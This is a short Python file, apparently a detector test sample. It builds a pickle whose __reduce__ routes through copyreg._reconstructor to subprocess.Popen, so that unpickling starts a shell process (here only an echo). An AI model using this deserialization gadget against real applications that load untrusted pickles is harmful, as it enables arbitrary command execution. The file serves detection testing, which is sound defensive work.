# technique: T1059.006 T1059.004 T1203
"""Pickle that starts a process through copyreg._reconstructor(subprocess.Popen, …) (T1059.004, T1203).

copyreg._reconstructor(cls, base, state) calls base.__new__(cls, state)
and then base.__init__(obj, state): with cls = base = subprocess.Popen
and state = an argv list, "reconstructing" an object starts a process.
The reduce callable is copyreg's private helper, which normal pickles of
old-style objects use all the time.

A good detector raises a high alert: a process starts inside pickle.loads
(subprocess.Popen reached through copyreg).
"""
import copyreg
import pickle
import subprocess


class Snapshot:
    def __reduce__(self):
        return (copyreg._reconstructor, (subprocess.Popen, subprocess.Popen,
                                         ["/bin/sh", "-c", "echo reconstructed a shell"]))


blob = pickle.dumps(Snapshot(), protocol=2)
del Snapshot
proc = pickle.loads(blob)
proc.wait(timeout=5)
